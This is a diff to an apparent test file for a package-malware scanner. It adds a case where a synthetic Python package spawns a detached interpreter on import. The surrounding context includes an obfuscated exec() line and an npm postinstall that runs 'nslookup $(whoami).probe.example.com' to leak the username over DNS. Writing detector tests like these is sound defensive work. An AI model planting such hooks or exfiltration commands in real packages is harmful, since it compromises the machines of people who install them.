@@ -580,6 +580,20 @@ exec("".join([r_l[a_l.index(c)] if c in r_l else c for c in "RNKLIG LH;LH.HBHGVN
     verdict: 'hold',
   },
   {
+    rule: 'spawns-inline-interpreter',
+    name: 'import code starts a detached python -c that imports another module',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import subprocess
+p = subprocess.Popen(["python3", "-c", "from cachelib_helper import manager"], close_fds=True)
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 2,
+    weight: 50,
+    verdict: 'hold',
+  },
+  {
     rule: 'shell-exfiltration',
     name: 'postinstall runs nslookup $(whoami).probe.example.com',
     scan: () => npm({}, postinstall('nslookup $(whoami).probe.example.com')),
